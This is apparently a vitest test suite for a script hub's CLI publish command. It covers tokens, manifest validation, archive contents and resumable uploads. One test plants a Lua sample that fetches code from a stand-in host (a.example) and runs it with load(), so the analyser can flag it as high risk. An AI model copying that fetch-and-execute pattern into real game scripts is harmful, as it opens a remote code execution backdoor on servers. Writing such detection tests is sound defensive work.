import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { symlink, writeFile } from 'node:fs/promises'

import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'

import { storeFailure } from '#server/archives/archives.public.ts'
import { analyseAll } from '#test-support/analyses.ts'
import { startFragileProxy } from '#test-support/fragile-proxy.ts'
import { createGameServer, publishScript, resourceFiles } from '#test-support/game-server.ts'
import { startTestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload', 'scripts.download')
const { id } = await publishScript(app, author, 'Pier', resourceFiles('pier'))
const other = await publishScript(app, author, 'Other', resourceFiles('other'))

async function createToken(
  scopes: string[],
  scripts: 'all' | number[] = 'all',
  name = 'CI',
): Promise<string> {
  const draft = { name, scopes, scripts, days: 30 }
  const { body, status } = await app.request(author, 'POST', '/api/account/tokens', draft)
  expect(status).toBe(201)
  return body.token
}
const token = await createToken(['publish'])

/** A folder that an author works in. */
async function workspace({
  withToken = token,
  number = '2.0.0',
  hub = app.url,
  lua = "print('pier')\n",
} = {}) {
  const server = await createGameServer({ token: withToken })
  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nscripthaven '${id}'\nversion '${number}'\nserver_script 'server.lua'\n`
  await server.write('pier/fxmanifest.lua', manifest)
  await server.write('pier/server.lua', lua)
  return { ...server, publish: (...args: string[]) => server.run('publish', 'pier', '--hub', hub, ...args) }
}

async function versionsOf(
  script = id,
): Promise<{ id: number; number: string; sha256: string; fileSize: number }[]> {
  return (await app.request(author, 'GET', `/api/scripts/${script}/versions`)).body.versions
}

/** Analyses as soon as the version is there: this app has no job runner. */
async function analyseWhenUploaded(number: string): Promise<void> {
  await expect.poll(async () => (await versionsOf()).map((version) => version.number)).toContain(number)
  await analyseAll(app)
}

/** As when the files of the archive cannot be read. */
async function failAnalysis(number: string): Promise<void> {
  await expect.poll(async () => (await versionsOf()).map((version) => version.number)).toContain(number)
  const [version] = await versionsOf()
  const { rows } = await app.db.execute<{ id: number; sha256: string; revision: string }>(sql`
    select id, sha256, revision from archive_analyses where sha256 = ${version?.sha256}`)
  for (const analysis of rows) await storeFailure(app.app, analysis, 'damaged')
}

test.each<[string, string[], () => Promise<string>, RegExp]>([
  [
    'a token without the scope publish',
    [],
    () => createToken(['read', 'download']),
    /needs an access token with the scope publish/,
  ],
  ['a token of another script', [], () => createToken(['publish'], [other.id]), /token|not found|Forbidden/i],
  [
    'a token that was never one',
    [],
    async () => 'x'.repeat(42),
    /does not accept the token: it has expired or was revoked/,
  ],
  ['a script that does not exist', ['--script', '999999'], async () => token, /not found/i],
  [
    'a number that exists',
    ['--number', '1.0.0'],
    async () => token,
    /already has a version with this number/,
  ],
])('%s publishes nothing, and the reason is named', async (_, args, createOne, message) => {
  const before = await versionsOf()
  const { publish } = await workspace({ withToken: await createOne() })

  const { code, stderr } = await publish(...args)

  expect(stderr).toMatch(message)
  expect(code).toBe(4)
  expect(await versionsOf()).toEqual(before)
})

test('a token that has expired publishes nothing', async () => {
  const expired = await createToken(['publish'], 'all', 'expired')
  await app.db.execute(sql`update sessions set expires_at = now() - interval '1 day' where name = 'expired'`)
  const before = await versionsOf()
  const { publish } = await workspace({ withToken: expired })

  expect(await publish()).toMatchObject({
    code: 4,
    stderr: expect.stringContaining('does not accept the token: it has expired or was revoked'),
  })
  expect(await versionsOf()).toEqual(before)
})

test('a folder without a manifest, without a script, or with a link is bad usage', async () => {
  const before = await versionsOf()
  const work = await workspace()
  const { publish, run, path } = work
  await work.write('empty/readme.md', 'x')
  await work.write('plain/fxmanifest.lua', "fx_version 'cerulean'\n")
  await symlink('/etc/hostname', path('pier/secret.txt'))

  expect(await run('publish', 'empty', '--hub', app.url)).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('has no fxmanifest.lua'),
  })
  expect(await run('publish', 'plain', '--hub', app.url)).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('Which script is this?'),
  })
  expect(await publish()).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('secret.txt is not a regular file'),
  })
  expect(await publish('--fail-on', 'worst')).toMatchObject({ code: 2 })
  expect(await versionsOf()).toEqual(before)
})

test('a version waits for its report, and --fail-on decides the exit code', async () => {
  const lua = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
  const work = await workspace({ number: '2.1.0', lua })

  const [published] = await Promise.all([
    work.publish('--fail-on', 'high', '--changelog', 'Loads more.'),
    analyseWhenUploaded('2.1.0'),
  ])

  expect(published.code).toBe(1)
  expect(published.stdout).toContain(`Uploaded version 2.1.0 of script ${id}`)
  expect(published.stdout).toMatch(/Report: [1-9]\d* high[^]*pier\/server\.lua:\d/)
  const [version] = await versionsOf()
  expect(version).toMatchObject({ number: '2.1.0', changelog: 'Loads more.' })
})

test('an archive has what the manifest names and what a resource reads, and nothing of the workplace', async () => {
  const work = await workspace({ number: '2.3.0' })
  const manifest = await work.read('pier/fxmanifest.lua')
  const names =
    "server_script 'node_modules/tiny/index.js'\nfiles { '**/*', '.build/page.js', 'lib/old.zip' }\nui_page 'https://a.example/'\nshared_script '@ox_lib/init.lua'\n"
  await work.write('pier/fxmanifest.lua', manifest + names)
  const packed = [
    'README.md',
    '.fxap',
    '.build/page.js',
    'data/read.json',
    'lib/old.zip',
    'node_modules/tiny/index.js',
    'scripthaven/bridge.lua',
  ]
  const left = [
    '.git/config',
    '.env',
    'lib/.git/config',
    'node_modules/tiny/package.json',
    'node_modules/other/index.js',
    'pier.zip',
    'debug.log',
    'keys/server.pem',
    'Thumbs.db',
    'scripthaven.json',
    'scripthaven.lock',
    'scripthaven/installed.json',
    'scripthaven/rollback/1/change.json',
  ]
  for (const path of [...packed, ...left]) await work.write(`pier/${path}`, `// ${path}\n`)
  await symlink('/etc', work.path('pier/node_modules/link'))

  const [checked, [published]] = [
    await work.publish('--check'),
    await Promise.all([work.publish(), analyseWhenUploaded('2.3.0')]),
  ]

  expect([published.code, published.stderr]).toEqual([0, ''])
  expect(published.stdout).toMatch(/^Packed 9 files, \d KB\./)
  const [version] = await versionsOf()
  const { body } = await app.request(author, 'GET', `/api/versions/${version?.id}/files`)
  const paths = body.files.map(({ path }: { path: string }) => path)
  expect(paths.toSorted()).toEqual(
    [...packed, 'fxmanifest.lua', 'server.lua'].map((path) => `pier/${path}`).toSorted(),
  )
  expect(checked.stdout).toContain('9 files, 1 resource')
})

test('files of the archive that the manifest does not name are listed before the upload', async () => {
  const work = await workspace({ number: '2.3.1' })
  for (const path of ['data/read.json', 'secrets.json']) await work.write(`pier/${path}`, '{}')

  const [checked, quiet] = [await work.publish('--check'), await work.publish('--check', '--quiet')]

  const note =
    'Also in the archive, though the manifest does not name them: data/read.json and secrets.json.\n'
  expect(checked.stdout).toContain(note)
  expect(quiet.stdout).not.toContain(note)
})

test('a file that the manifest names and that does not exist stops the upload', async () => {
  const before = await versionsOf()
  const work = await workspace({ number: '2.4.0' })
  const manifest = await work.read('pier/fxmanifest.lua')
  await work.write(
    'pier/fxmanifest.lua',
    `${manifest}ui_page 'web/dist/index.html'\nfiles { 'locales/*.json' }\n`,
  )

  for (const args of [[], ['--check']])
    expect(await work.publish(...args)).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('does not exist: web/dist/index.html (line 6). Nothing was uploaded.'),
    })
  expect(await versionsOf()).toEqual(before)
})

test('an archive that the hub cannot read ends with its reason', async () => {
  const { publish } = await workspace({ number: '2.2.0' })
  const [published] = await Promise.all([publish(), failAnalysis('2.2.0')])

  expect(published).toMatchObject({
    code: 4,
    stderr: expect.stringContaining('The hub cannot read the archive'),
  })
})

test('a large upload that breaks continues where the hub stopped, and its URL gets no token', async () => {
  const { uploads, url } = await startFragileProxy(app)
  const { publish, path } = await workspace({ number: '3.0.0', hub: url })
  await writeFile(path('pier/model.ytd'), randomBytes(6 * 1024 ** 2))

  const [published] = await Promise.all([publish(), analyseWhenUploaded('3.0.0')])

  expect([published.code, published.stderr]).toEqual([0, ''])
  const offsets = uploads.filter(({ method }) => method === 'PATCH').map(({ offset }) => Number(offset))
  expect(offsets).toEqual([0, expect.any(Number)])
  expect(offsets[1]).toBeGreaterThan(0)
  expect(uploads.every(({ token: sent }) => sent === undefined)).toBe(true)
  const [version] = await versionsOf()
  expect(version).toMatchObject({ number: '3.0.0' })
  expect(version?.fileSize).toBeGreaterThan(6 * 1024 ** 2)
})

test('an upload that was ended continues in the next run', async () => {
  const child: { kill?: () => void } = {}
  const { uploads, url } = await startFragileProxy(app, () => child.kill?.())
  const { publish, path, folder, env, program, read } = await workspace({ number: '4.0.0', hub: url })
  await writeFile(path('pier/model.ytd'), randomBytes(6 * 1024 ** 2))
  const killed = spawn(process.execPath, [program, 'publish', 'pier', '--hub', url], {
    cwd: folder,
    env: env(),
  })
  child.kill = () => killed.kill('SIGKILL')
  await once(killed, 'exit')
  expect(Object.keys(JSON.parse(await read('home/scripthaven/uploads.json')))).toEqual([
    expect.stringMatching(/^http:\S+ [0-9a-f]{64}$/),
  ])

  const [published] = await Promise.all([publish(), analyseWhenUploaded('4.0.0')])

  expect([published.code, published.stderr]).toEqual([0, ''])
  const offsets = uploads.filter(({ method }) => method === 'PATCH').map(({ offset }) => Number(offset))
  expect(offsets).toEqual([0, expect.any(Number)])
  expect(offsets[1]).toBeGreaterThan(0)
  expect(await read('home/scripthaven/uploads.json')).toBe('{}\n')
})

test('an upload that the hub no longer has starts again', async () => {
  const { publish, ...work } = await workspace({ number: '5.0.0' })
  const uploads = 'home/scripthaven/uploads.json'
  await writeFile(work.path('pier/model.ytd'), randomBytes(6 * 1024 ** 2))
  await expect(publish('--number', '4.0.0')).resolves.toMatchObject({ code: 4 })
  const stored = await work.read(uploads)
  await work.write(
    uploads,
    stored.replace(/"uploadUrl": "[^"]*"/, `"uploadUrl": "${app.url}/files/upload/gone"`),
  )

  const [published] = await Promise.all([publish(), analyseWhenUploaded('5.0.0')])

  expect([published.code, published.stderr]).toEqual([0, ''])
})

test('a rejected upload ends the program at a terminal, too', async () => {
  const server = await workspace({ withToken: 'shv_none', number: '9.0.0' })
  await server.write('terminal.cjs', 'process.stderr.isTTY = true\n')
  const terminal = { NODE_OPTIONS: `--require ${server.path('terminal.cjs')}` }

  expect(await server.runWith(terminal, 'publish', 'pier', '--hub', app.url)).toMatchObject({
    code: 4,
    stderr: expect.stringContaining('does not accept the token'),
  })
})
